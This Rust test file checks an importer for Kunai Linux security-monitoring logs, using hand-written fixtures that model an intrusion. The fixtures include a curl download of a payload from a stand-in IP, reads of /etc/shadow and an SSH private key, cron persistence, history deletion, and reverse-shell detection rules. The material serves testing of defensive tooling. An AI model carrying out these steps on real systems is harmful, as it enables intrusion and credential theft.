//! The importer over the hand-written samples (`testdata/fixtures/kunai/`, see SOURCES.md
//! there: no Kunai output is published under a licence we can copy).

use std::path::PathBuf;

use serde_json::Value;

use super::super::testing::*;
use super::detect::IOC_RULE;
use super::*;
use crate::import::values::text_time_ns;
use crate::import::{Counts, detect, importers};
use crate::schema::{
    Detail, Event, EventKind, FileDetail, NetDetail, Severity, source_process_key,
};

const DIR: &str = "kunai";

/// sshd (912), the bash it forked (4100), and the two processes that used pid 4123 in turn.
const SSHD: &str = "41534660-0300-0000-5f2e-91d390030000";
const BASH: &str = "c134a13f-4603-0000-5f2e-91d304100000";
const SCRIPT: &str = "415fc919-4903-0000-5f2e-91d31b100000";
const CURL: &str = "c10daa01-5203-0000-5f2e-91d31b100000";

fn load(name: &str, host: Option<&str>) -> (Vec<Event>, Counts) {
    let bytes = std::fs::read(fixture(&format!("{DIR}/{name}"))).expect("fixture");
    let (rows, counts) = import_bytes(&Kunai, &bytes, host);
    (events(&rows).into_iter().cloned().collect(), counts)
}

fn key(host: &str, guuid: &str) -> Option<String> {
    Some(source_process_key(host, "kunai", guuid))
}

fn at(utc: &str) -> i64 {
    text_time_ns(utc).unwrap()
}

fn extra(e: &Event) -> Value {
    serde_json::from_str(e.extra.as_deref().expect("extra")).unwrap()
}

fn exe_sha256(e: &Event) -> Option<&str> {
    match &e.detail {
        Detail::Process(p) => p.exe_sha256.as_deref(),
        d => panic!("not a process event: {d:?}"),
    }
}

fn exit_code(e: &Event) -> Option<i32> {
    match &e.detail {
        Detail::Process(p) => p.exit_code,
        d => panic!("not a process event: {d:?}"),
    }
}

fn file(e: &Event) -> &FileDetail {
    match &e.detail {
        Detail::File(f) => f,
        d => panic!("not a file event: {d:?}"),
    }
}

fn net(e: &Event) -> &NetDetail {
    match &e.detail {
        Detail::Network(n) => n,
        d => panic!("not a network event: {d:?}"),
    }
}

#[test]
fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
    let (evs, counts) = load("process-tree.jsonl", None);
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (11, 0),
        "{counts:?}"
    );
    // A thread's clone and its exit are not the process'.
    assert_eq!(counts.unmapped["clone (thread)"], 1);
    assert_eq!(counts.unmapped["exit (thread)"], 1);
    use EventKind::*;
    let kinds: Vec<_> = evs.iter().map(|e| e.kind).collect();
    assert_eq!(
        kinds,
        [
            ProcessFork,
            ProcessExec,
            ProcessFork,
            ProcessExec,
            ProcessExit,
            ProcessFork,
            ProcessExec,
            ProcessExit,
            ProcessExit
        ]
    );
    assert!(
        evs.iter()
            .all(|e| e.host_id == "web-1" && e.source == "kunai")
    );
    assert!(evs.iter().all(|e| e.container_id.is_none()));
    // sshd forks the session's process; it execs bash: one key.
    let (fork, bash) = (&evs[0], &evs[1]);
    assert_eq!(fork.time, at("2025-03-04T09:00:00.250100000Z"));
    assert_eq!(fork.process.start_time, Some(fork.time));
    assert_eq!(fork.process.key, key("web-1", BASH));
    assert_eq!(fork.process.parent_key, key("web-1", SSHD));
    assert_eq!(
        (fork.process.pid, fork.process.ppid),
        (Some(4100), Some(912))
    );
    assert_eq!(fork.process.comm.as_deref(), Some("sshd"));
    assert_eq!(extra(fork)["flags"], "0x1200011");
    let p = &bash.process;
    assert_eq!(p.key, fork.process.key);
    assert_eq!((p.pid, p.tid, p.ppid), (Some(4100), Some(4100), Some(912)));
    assert_eq!((p.uid, p.gid), (Some(1000), Some(1000)));
    assert_eq!(p.user_name.as_deref(), Some("alice"));
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(p.argv, ["-bash"]);
    assert_eq!(
        p.start_time, None,
        "an exec's time is not its process' start"
    );
    assert_eq!(
        exe_sha256(bash),
        Some("4e38c6b022e8d27c83f79def9cb3bc268450a5ec0ef9f3067c4b0468076c865d")
    );
    let x = extra(bash);
    assert_eq!(x["exe"]["md5"], "6199998b9e530d1aee51214f4f0a9b89");
    assert_eq!(x["exe"]["size"], 1446024);
    assert!(x["exe"].get("path").is_none() && x["exe"].get("sha256").is_none());
    assert_eq!(x["parent_exe"], "/usr/sbin/sshd");
    assert_eq!(x["ancestors"], "/usr/lib/systemd/systemd|/usr/sbin/sshd");
    assert_eq!(x["event"]["uuid"].as_str().map(str::len), Some(36));
    assert_eq!(x["event"]["id"], 1);
    assert!(x["event"].get("source").is_none());
    assert_eq!(x["host_uuid"], "0c5e7a52-3b8e-5d6f-9a41-7e2f6c1d8b90");
    assert_eq!(x["task"]["group"], "alice");
    assert_eq!(x["task"]["namespaces"]["mnt"], 4026531841u64);
    assert_eq!(x["parent_task"]["name"], "sshd");
    assert!(x["parent_task"].get("guuid").is_none());
    // The script: exe is its interpreter, the script's own hashes stay in extra.
    let script = &evs[3];
    assert_eq!(script.process.key, key("web-1", SCRIPT));
    assert_eq!(script.process.parent_key, bash.process.key);
    assert_eq!(script.process.exe.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(script.process.argv, ["/bin/bash", "/tmp/x.sh", "--fast"]);
    assert_eq!(exe_sha256(script), exe_sha256(bash));
    let x = extra(script);
    assert_eq!(x["exe"]["path"], "/tmp/x.sh");
    assert_eq!(x["exe"]["size"], 187);
    assert_eq!(x["interpreter"]["size"], 1446024);
    let script_exit = &evs[4];
    assert_eq!(
        (script_exit.process.key.as_ref(), exit_code(script_exit)),
        (script.process.key.as_ref(), Some(0))
    );
    // pid 4123 again: another process, another key; the parent is still bash.
    let (fork2, curl, curl_exit) = (&evs[5], &evs[6], &evs[7]);
    assert_eq!(fork2.process.pid, Some(4123));
    assert_eq!(fork2.process.key, key("web-1", CURL));
    assert_ne!(fork2.process.key, script.process.key);
    assert_eq!(curl.process.key, fork2.process.key);
    assert_eq!(curl.process.parent_key, bash.process.key);
    assert_eq!(
        curl.process.argv,
        [
            "curl",
            "-fsSL",
            "-o",
            "/tmp/p",
            "http://203.0.113.9/p?a=1 b"
        ]
    );
    assert_eq!(curl_exit.process.key, curl.process.key);
    assert_eq!(exit_code(curl_exit), Some(7));
    assert!(extra(curl_exit).get("error_code").is_none());
    // exit_group(258): the wait status keeps the low byte; the value as given stays.
    let bash_exit = &evs[8];
    assert_eq!(bash_exit.process.key, bash.process.key);
    assert_eq!(exit_code(bash_exit), Some(2));
    assert_eq!(extra(bash_exit)["error_code"], 258);
    assert_eq!(bash_exit.time, at("2025-03-04T09:01:40.000900000Z"));
}

#[test]
fn connects_carry_both_ends_and_the_resolved_name_stays_in_extra() {
    let (evs, counts) = load("network.jsonl", None);
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (5, 0),
        "{counts:?}"
    );
    assert_eq!(counts.unmapped["dns_query"], 1);
    assert_eq!(counts.unmapped["send_data"], 1);
    assert_eq!(evs.len(), 3);
    assert!(evs.iter().all(|e| e.kind == EventKind::NetConnect));
    let c = &evs[0];
    assert_eq!(c.process.key, key("web-1", CURL));
    assert_eq!(c.process.exe.as_deref(), Some("/usr/bin/curl"));
    let n = net(c);
    assert_eq!(n.protocol, crate::schema::Protocol::Tcp);
    assert_eq!(
        (n.src_ip, n.src_port),
        (Some("10.0.2.15".parse().unwrap()), Some(48122))
    );
    assert_eq!(
        (n.dst_ip, n.dst_port),
        (Some("203.0.113.9".parse().unwrap()), Some(80))
    );
    let x = extra(c);
    assert_eq!(x["dst"]["hostname"], "dl.example.net");
    assert_eq!(x["dst"]["public"], true);
    assert_eq!(x["connected"], false);
    assert!(x.get("src").is_none());
    // Kunai's own Community ID is the one the schema computes.
    assert_eq!(c.community_id().as_deref(), x["community_id"].as_str());
    let udp6 = &evs[1];
    assert_eq!(net(udp6).protocol, crate::schema::Protocol::Udp);
    assert_eq!(net(udp6).dst_ip, Some("2001:db8::53".parse().unwrap()));
    assert_eq!(udp6.process.user_name.as_deref(), Some("www-data"));
    assert_eq!(
        udp6.community_id().as_deref(),
        extra(udp6)["community_id"].as_str()
    );
    // Kunai 0.2–0.4: `exe.file`, no socket or source, no user names.
    let old = &evs[2];
    assert_eq!(old.process.exe.as_deref(), Some("/usr/bin/wget"));
    assert_eq!(old.process.user_name, None);
    let n = net(old);
    assert_eq!((n.src_ip, n.dst_port), (None, Some(443)));
    assert_eq!(extra(old)["dst"]["hostname"], "cdn.example.com");
}

#[test]
fn file_events_and_mapped_files_and_the_rest_counted() {
    let (evs, counts) = load("files.jsonl", None);
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (15, 0),
        "{counts:?}"
    );
    for k in [
        "file_unlink (failed)",
        "mprotect_exec",
        "init_module",
        "bpf_prog_load",
        "kill",
        "ptrace",
    ] {
        assert_eq!(counts.unmapped[k], 1, "{k}: {counts:?}");
    }
    use EventKind::*;
    let got: Vec<(EventKind, &str)> = evs
        .iter()
        .map(|e| (e.kind, file(e).path.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (FileOpenRead, "/etc/shadow"),
            (FileOpenRead, "/home/alice/.ssh/id_ed25519"),
            (FileCreate, "/tmp/.cache/stage.bin"),
            (FileOpenWrite, "/tmp/.cache/stage.bin"),
            (FileWriteClose, "/tmp/.cache/stage.bin"),
            (FileRename, "/tmp/.cache/stage.bin"),
            (FileOpenWrite, "/etc/cron.d/updater"),
            (FileUnlink, "/home/alice/.bash_history"),
            (FileOpenRead, "/tmp/.cache/libhook.so"),
        ]
    );
    let names: Vec<String> = evs
        .iter()
        .map(|e| extra(e)["event"]["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names[0], "read_config");
    assert_eq!(names[6], "write_config");
    assert_eq!(names[8], "mmap_exec");
    assert_eq!(
        file(&evs[5]).target_path.as_deref(),
        Some("/usr/local/bin/updater")
    );
    let python = key("web-1", "41e4815e-a303-0000-5f2e-91d3641b0000");
    assert!(
        evs.iter()
            .filter(|e| e.process.pid == Some(7012))
            .all(|e| e.process.key == python)
    );
    assert_eq!(evs[0].process.exe.as_deref(), Some("/usr/bin/python3.11"));
    assert_eq!(evs[0].process.argv, ["python3", "/root/stage.py"]);
    assert_eq!(evs[6].process.comm.as_deref(), Some("tee"));
    assert_eq!(evs[6].process.ppid, Some(7000));
    let mm = &evs[8];
    assert_eq!(file(mm).sha256.as_deref().map(str::len), Some(64));
    assert_eq!(extra(mm)["mapped"]["size"], 18184);
    assert!(extra(mm)["mapped"].get("path").is_none());
    assert!(extra(&evs[7]).get("success").is_none());
}

#[test]
fn containers_are_named_as_kunai_names_them() {
    let (rows, counts) = import_fixture(&Kunai, &format!("{DIR}/container.jsonl"));
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (5, 0),
        "{counts:?}"
    );
    let evs = events(&rows);
    assert_eq!(evs.len(), 5);
    let ids: Vec<Option<&str>> = evs.iter().map(|e| e.container_id.as_deref()).collect();
    assert_eq!(
        ids,
        [
            Some("shop-web"),
            Some("shop-web"),
            Some("ubuntu-kunai-test"),
            Some("4f1c2a9be3d7"),
            None
        ]
    );
    assert_eq!(evs[3].host_id, "db-2");
    assert_eq!(evs[1].kind, EventKind::NetConnect);
    assert_eq!(net(evs[1]).dst_port, Some(443));
    assert_eq!(evs[0].process.exe.as_deref(), Some("/bin/busybox"));
    assert_eq!(
        evs[0].process.argv,
        ["/bin/sh", "-c", "id; curl -s http://10.96.0.1:443/"]
    );
    // Kunai writes `?` for a uid it cannot name (an LXC's mapped root).
    assert_eq!(evs[2].process.user_name, None);
    assert_eq!(evs[2].process.uid, Some(1_000_000));
    let ctrs = containers(&rows);
    assert_eq!(ctrs.len(), 3, "one record per container");
    let web = ctrs.iter().find(|c| c.container_id == "shop-web").unwrap();
    assert_eq!(
        (web.name.as_deref(), web.runtime.as_deref()),
        (Some("shop-web"), Some("docker"))
    );
    assert_eq!(web.host_id, "web-1");
    assert_eq!(web.time, evs[0].time);
    let lxc = ctrs
        .iter()
        .find(|c| c.container_id == "ubuntu-kunai-test")
        .unwrap();
    assert_eq!(lxc.runtime.as_deref(), Some("lxc"));
    assert!(
        ctrs.iter()
            .all(|c| c.image.is_none() && c.source == "kunai")
    );
}

#[test]
fn detections_raise_one_finding_per_rule_and_one_for_iocs() {
    let (evs, counts) = load("detections.jsonl", None);
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (5, 0),
        "{counts:?}"
    );
    assert_eq!(counts.unmapped["start"], 1);
    assert_eq!(counts.unmapped["file_scan"], 1);
    // The dns_query is not an event of any family; its IoC match is a finding.
    assert_eq!(counts.unmapped["dns_query"], 1);
    let kinds: Vec<_> = evs.iter().map(|e| e.kind).collect();
    use EventKind::*;
    assert_eq!(
        kinds,
        [
            ProcessExec,
            Finding,
            Finding,
            NetConnect,
            Finding,
            Finding,
            Finding
        ]
    );
    let find = |e: &Event| match &e.detail {
        Detail::Finding(f) => f.clone(),
        d => panic!("{d:?}"),
    };
    let (exec, kthread) = (&evs[0], find(&evs[1]));
    assert_eq!(kthread.rule, "mimic.kthread");
    assert_eq!(kthread.severity, Some(Severity::Critical));
    assert_eq!(kthread.tags, ["os:linux", "T1036"]);
    assert_eq!(kthread.rule_id, None);
    assert_eq!(
        kthread.message.as_deref(),
        Some("execve by /tmp/kworker matched mimic.kthread (severity 10)")
    );
    assert_eq!(evs[1].process.key, exec.process.key);
    assert_eq!(evs[1].time, exec.time);
    assert_eq!(extra(exec)["detection"]["rules"][0], "mimic.kthread");
    assert_eq!(extra(&evs[1])["event"]["name"], "execve");
    let dns = find(&evs[2]);
    assert_eq!(dns.rule, IOC_RULE);
    assert_eq!(
        dns.message.as_deref(),
        Some("dns_query by /usr/lib/firefox/firefox matched IoC evil.example.org (severity 10)")
    );
    assert_eq!(evs[2].process.pid, Some(3000));
    let rules: Vec<String> = evs[4..].iter().map(|e| find(e).rule).collect();
    assert_eq!(rules, ["net.revshell.nc", "net.uncommon.port", IOC_RULE]);
    assert!(evs[4..].iter().all(|e| e.process.key == evs[3].process.key));
    assert_eq!(
        find(&evs[4]).tags,
        ["os:linux", "net", "T1059.004", "T1571"]
    );
    assert_eq!(extra(&evs[4])["detection"]["actions"][0], "scan-files");
}

#[test]
fn records_without_a_host_wait_for_host_and_importing_twice_adds_nothing() {
    let text = std::fs::read_to_string(fixture(&format!("{DIR}/process-tree.jsonl"))).unwrap();
    let bare = text.replace("\"name\":\"web-1\",", "");
    let (rows, counts) = import_bytes(&Kunai, bare.as_bytes(), None);
    assert_eq!(counts.skipped[crate::import::NO_HOST], 11);
    assert!(rows.is_empty());
    let (rows, counts) = import_bytes(&Kunai, bare.as_bytes(), Some("vm-9"));
    assert_eq!(counts.skipped_total(), 0);
    let evs = events(&rows);
    assert!(evs.iter().all(|e| e.host_id == "vm-9"));
    assert_eq!(evs[1].process.key, key("vm-9", BASH));
    // The same lines twice: the copies are duplicates.
    let twice = format!("{text}{text}");
    let (rows, counts) = import_bytes(&Kunai, twice.as_bytes(), None);
    assert_eq!((counts.records, counts.duplicates), (22, 11));
    assert_eq!(events(&rows).len(), 9);
    // Pretty-printed, one object after another, is read the same.
    let pretty: String = text
        .lines()
        .map(|l| serde_json::to_string_pretty(&serde_json::from_str::<Value>(l).unwrap()).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    let (rows, counts) = import_bytes(&Kunai, pretty.as_bytes(), None);
    assert_eq!((counts.records, counts.skipped_total()), (11, 0));
    assert_eq!(events(&rows).len(), 9);
}

/// Every sample.
fn inputs() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(fixture(DIR))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .collect();
    files.sort();
    files
}

/// Every skip reason: of records, and `malformed JSON` of stretches that never became one.
const RECORD_SKIPS: &[&str] = &[
    "malformed JSON",
    "not a Kunai event",
    "incomplete event",
    crate::import::NO_HOST,
    "no time",
];

#[test]
fn mangled_copies_never_panic_and_every_record_is_accounted_for() {
    let files = inputs();
    assert_eq!(files.len(), 5, "{files:?}");
    let (mut copies, mut rows, mut skipped) = (0, 0, 0);
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        for m in mangled(&bytes) {
            for host in [None, Some("h")] {
                let (out, c) = import_bytes(&Kunai, &m, host);
                for r in c.skipped.keys() {
                    assert!(RECORD_SKIPS.contains(&r.as_str()), "{}: {r}", f.display());
                }
                // Findings come on top of their record's event (or its not-mapped count);
                // a stretch the framer could not read is no record.
                let evs = events(&out)
                    .iter()
                    .filter(|e| e.kind != EventKind::Finding)
                    .count() as u64;
                let unmapped: u64 = c.unmapped.values().sum();
                let stretches = c.skipped.get("malformed JSON").copied().unwrap_or(0);
                let record_skips = c.skipped_total() - stretches;
                assert_eq!(
                    evs + unmapped + c.duplicates + record_skips,
                    c.records,
                    "{}: {c:?}",
                    f.display()
                );
                copies += 1;
                rows += evs;
                skipped += c.skipped_total();
            }
        }
    }
    eprintln!("{copies} mangled copies: {rows} events, {skipped} skipped");
    assert!(rows > 0 && skipped > 0);
}

#[test]
fn sniff_takes_kunai_and_nothing_else() {
    for f in inputs() {
        let bytes = std::fs::read(&f).unwrap();
        assert!(Kunai.sniff(&bytes), "{}", f.display());
        assert_eq!(detect(&bytes).unwrap().name(), "kunai", "{}", f.display());
        for i in importers() {
            if i.name() != "kunai" {
                assert!(!i.sniff(&bytes), "{} claims {}", i.name(), f.display());
            }
        }
    }
    let mut others = 0;
    for e in walkdir::WalkDir::new(fixture("")) {
        let e = e.unwrap();
        if e.file_type().is_file() && !e.path().to_string_lossy().contains("/kunai/") {
            let bytes = std::fs::read(e.path()).unwrap();
            assert!(!Kunai.sniff(&bytes), "{}", e.path().display());
            others += 1;
        }
    }
    assert!(others > 50, "{others}");
    // Kunai ≤ 0.1 wrote no `source`; its event and task sections still tell it.
    let old = r#"{"data":{},"info":{"host":{"hostname":"h","container":"lxc"},"event":{"id":1,"name":"execve","uuid":"605639f8-37b5-7df7-c52f-eda680a38124","batch":1},"task":{"guuid":"6629cda0-7300-0000-ba5f-b80ed4100000"}}}"#;
    assert!(Kunai.sniff(old.as_bytes()));
    assert!(!Kunai.sniff(br#"{"info":{"event":{"source":"kunai"}}}"#));
    assert!(!Kunai.sniff(br#"{"data":{},"info":{"event":{"name":"x"}}}"#));
    assert!(!Kunai.sniff(b""));
}
